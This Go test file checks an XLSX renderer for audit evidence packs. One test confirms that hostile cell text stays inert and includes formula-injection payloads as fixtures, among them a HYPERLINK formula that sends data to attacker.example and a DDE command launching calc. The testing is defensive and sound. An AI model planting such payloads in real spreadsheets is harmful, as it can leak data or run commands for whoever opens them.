package xlsx

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/evidencepack/evidence"
	"github.com/evidencepack/evidence/reports"
	"github.com/evidencepack/evidence/reports/internal/words"
	"github.com/evidencepack/evidence/reports/reportstest"
)

func render(t *testing.T, r Renderer, p *reports.Pack) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := r.Render(&b, p); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func open(t *testing.T, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	})
	return f
}

// parts reads the workbook's files.
func parts(t *testing.T, b []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		parts[f.Name] = string(content)
	}
	return parts
}

// TestNothingOutsideIsObeyed: hostile texts are the text of cells. No formula
// and no link but https stands anywhere in the workbook.
func TestNothingOutsideIsObeyed(t *testing.T) {
	b := render(t, Renderer{}, reportstest.Pack(reportstest.Options{}))
	formula := regexp.MustCompile(`<f[ >/]`)
	target := regexp.MustCompile(`Target="([^"]*)" Type="[^"]*" TargetMode="External"`)
	links := 0
	for name, content := range parts(t, b) {
		if m := formula.FindString(content); m != "" {
			t.Errorf("%s holds a formula", name)
		}
		for _, m := range target.FindAllStringSubmatch(content, -1) {
			links++
			if !strings.HasPrefix(m[1], "https://") {
				t.Errorf("%s links to %q", name, m[1])
			}
		}
	}
	if links == 0 {
		t.Error("the workbook links to no source system")
	}
	f := open(t, b)
	found := map[string]bool{}
	for row := 1; row <= 450; row++ {
		cell := fmt.Sprintf("F%d", row) // who
		value, err := f.GetCellValue("NET-02", cell)
		if err != nil {
			t.Fatal(err)
		}
		found[value] = true
		if value == "" || !strings.ContainsAny(value[:1], "=+-@\n") {
			continue
		}
		kind, err := f.GetCellType("NET-02", cell)
		if err != nil {
			t.Fatal(err)
		}
		if kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%s %q is of type %v, not text", cell, value, kind)
		}
	}
	for _, want := range []string{
		`=HYPERLINK("https://attacker.example/?"&A1,"open")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+9)`, " =1+1", "\n=1+1",
		"line one\nline two\nline three", "invoice[U+202E]fdp.exe", "zero[U+200B]width[U+FEFF]", "nul[U+0000] bell[U+0007] escape[U+001B][31m",
		"bad [0xFF][0xFE] bytes", `<script>alert(1)</script> & <!-- ]]> -->`, "_x0041_ escaped", reportstest.LongHash,
	} {
		if !found[want] {
			t.Errorf("no cell holds %q", want)
		}
	}
}

func TestDatesAreDates(t *testing.T) {
	p := reportstest.Pack(reportstest.Options{})
	f := open(t, render(t, Renderer{}, p))
	var item reports.Item // LOG-01's first exception
	for item = range p.Controls[3].Exceptions() {
		break
	}
	rows, err := f.GetRows("LOG-01", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if len(r) < 13 || r[12] != item.ID {
			continue
		}
		var days float64
		if _, err := fmt.Sscan(r[3], &days); err != nil {
			t.Fatalf("time %q is not a number: %v", r[3], err)
		}
		got, err := excelize.ExcelDateToTime(days, false)
		if err != nil {
			t.Fatal(err)
		}
		want := item.Time.In(p.Location).Format(time.DateTime)
		if diff := cmp.Diff(want, got.Format(time.DateTime)); diff != "" {
			t.Errorf("time in the organisation's zone (-want +got):\n%s", diff)
		}
		return
	}
	t.Fatalf("no row of item %s", item.ID)
}

// TestExceptionsLinkToTheirRows follows the links of the list of exceptions.
func TestExceptionsLinkToTheirRows(t *testing.T) {
	for _, maxRows := range []int{0, 140} {
		t.Run(fmt.Sprint(maxRows), func(t *testing.T) {
			p := reportstest.Pack(reportstest.Options{Lang: evidence.English})
			f := open(t, render(t, Renderer{maxRows: maxRows}, p))
			row := 1
			for _, c := range p.Controls {
				for item := range c.Exceptions() {
					row++
					linked, to, err := f.GetCellHyperLink("Exceptions", fmt.Sprintf("O%d", row))
					if err != nil || !linked {
						t.Fatalf("row %d: linked %v, %v", row, linked, err)
					}
					sheet, cell, _ := strings.Cut(to, "!")
					sheet = strings.Trim(sheet, "'")
					if !strings.HasPrefix(sheet, c.ID) {
						t.Errorf("row %d of %s leads to sheet %q", row, c.ID, sheet)
					}
					column := map[int]string{8: "M", 5: "J", 4: "K"}[len(c.Columns)]
					id, err := f.GetCellValue(sheet, strings.Replace(cell, "A", column, 1))
					if err != nil {
						t.Fatal(err)
					}
					if id != item.ID {
						t.Errorf("%s leads to %q, want item %q", to, id, item.ID)
					}
				}
			}
		})
	}
}

func TestPopulationGoesOnInFurtherSheets(t *testing.T) {
	p := reportstest.Pack(reportstest.Options{})
	f := open(t, render(t, Renderer{maxRows: 120}, p))
	items := map[string]bool{}
	sheets := 0
	for _, name := range f.GetSheetList() {
		if !strings.HasPrefix(name, "NET-02") {
			continue
		}
		sheets++
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) > 120 {
			t.Errorf("%s has %d rows, want at most 120", name, len(rows))
		}
		for _, r := range rows {
			if len(r) > 12 && strings.Count(r[12], "-") == 4 {
				if items[r[12]] {
					t.Errorf("%s: item %s is there twice", name, r[12])
				}
				items[r[12]] = true
			}
		}
	}
	if sheets < 4 || len(items) != 400 {
		t.Errorf("%d sheets hold %d items, want 4 or more with 400", sheets, len(items))
	}
}

func TestInconsistentPacksAreRefused(t *testing.T) {
	tests := map[string]func(*reports.Pack){
		"an entry more than counted":  func(p *reports.Pack) { p.Registers[1].N++ },
		"an entry of another column":  func(p *reports.Pack) { p.Registers[1].Totals[0]--; p.Registers[1].Totals[1]++ },
		"an item more than counted":   func(p *reports.Pack) { p.Controls[0].Counts.Total-- },
		"a verdict counted otherwise": func(p *reports.Pack) { p.Controls[0].Counts.Passed--; p.Controls[0].Counts.Pending++ },
		"an exception not listed":     func(p *reports.Pack) { p.Controls[3].Exceptions = p.Controls[5].Exceptions },
	}
	for name, spoil := range tests {
		t.Run(name, func(t *testing.T) {
			p := reportstest.Pack(reportstest.Options{})
			spoil(p)
			if err := (Renderer{}).Render(io.Discard, p); err == nil {
				t.Error("the pack was rendered")
			}
		})
	}
}

// TestEmptyPack: no controls, no sources, no items is still a workbook.
func TestEmptyPack(t *testing.T) {
	f := open(t, render(t, Renderer{}, &reports.Pack{Period: reportstest.Period, Location: reportstest.Location, Lang: evidence.English}))
	want := []string{"Cover", "Summary", "Control matrix", "Exceptions", "IPE", "Coverage", "Hashes"}
	if diff := cmp.Diff(want, f.GetSheetList()); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
}

func TestSheetLooks(t *testing.T) {
	b := render(t, Renderer{}, reportstest.Pack(reportstest.Options{}))
	all := parts(t, b)
	f := open(t, b)
	merged, err := f.GetMergeCells("LOG-01")
	if err != nil {
		t.Fatal(err)
	}
	header := 0
	for row := 1; row < 30; row++ {
		if v, err := f.GetCellValue("LOG-01", fmt.Sprintf("A%d", row)); err == nil && v == "#" {
			header = row
		}
	}
	if header == 0 {
		t.Fatal("LOG-01 has no header row")
	}
	for _, m := range merged {
		_, row, err := excelize.CellNameToCoordinates(m.GetEndAxis())
		if err != nil || row >= header {
			t.Errorf("cells %s are merged in the data area (%v)", m.GetStartAxis(), err)
		}
	}
	for name, content := range all {
		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
			continue
		}
		for _, want := range []string{`fitToPage="1"`, `fitToWidth="1"`, `fitToHeight="0"`, "<oddFooter>", "<cols>"} {
			if !strings.Contains(strings.ReplaceAll(content, "true", "1"), want) {
				t.Errorf("%s lacks %s", name, want)
			}
		}
	}
	if n := strings.Count(all["xl/workbook.xml"], "_xlnm.Print_Titles"); n < 9 {
		t.Errorf("%d sheets repeat their header on paper, want 9", n)
	}
	if n := strings.Count(all["xl/workbook.xml"], "_xlnm._FilterDatabase"); n < 9 {
		t.Errorf("%d sheets have a filter, want 9", n)
	}
}

// TestTablesAreNamed: each table has a name that leads from its header to its last row, and
// the columns that every reader meets have notes in both languages.
func TestTablesAreNamed(t *testing.T) {
	p := reportstest.Pack(reportstest.Options{Lang: evidence.English})
	f := open(t, render(t, Renderer{maxRows: 120}, p))
	tables := map[string]string{}
	for _, n := range f.GetDefinedName() {
		if strings.HasPrefix(n.Name, "tbl_") {
			tables[n.Name] = n.RefersTo
		}
	}
	for name, want := range map[string]string{"tbl_LOG_01": "'LOG-01'!$A$11:$O$25", "tbl_NET_02": "'NET-02'!$A$", "tbl_NET_02__2_": "'NET-02 (2)'!$A$", "tbl_Exceptions": "'Exceptions'!$A$1:"} {
		if !strings.HasPrefix(tables[name], want) {
			t.Errorf("%s is %q, want it to begin %q", name, tables[name], want)
		}
	}
	comments, err := f.GetComments("Exceptions")
	if err != nil {
		t.Fatal(err)
	}
	noted := map[string]string{}
	for _, c := range comments {
		head, err := f.GetCellValue("Exceptions", c.Cell)
		if err != nil {
			t.Fatal(err)
		}
		noted[head] = c.Text
	}
	for _, n := range words.ColumnNotes {
		for head, text := range noted {
			if head == n.Heading.EN && (!strings.Contains(text, n.Text.JA) || !strings.Contains(text, n.Text.EN)) {
				t.Errorf("the note on %s is %q", head, text)
			}
		}
	}
	if len(noted) < 6 {
		t.Errorf("%d columns of the list of exceptions have notes", len(noted))
	}
	if !strings.Contains(sheetXML(t, f, "Exceptions"), `<conditionalFormatting sqref="F2:F`) {
		t.Error("the list of exceptions does not mark what is unanswered")
	}
}

// sheetXML is a sheet as its file has it.
func sheetXML(t *testing.T, f *excelize.File, name string) string {
	t.Helper()
	i, err := f.GetSheetIndex(name)
	if err != nil {
		t.Fatal(err)
	}
	body, ok := f.Pkg.Load(fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1))
	if !ok {
		t.Fatalf("no file of sheet %s", name)
	}
	return string(body.([]byte))
}
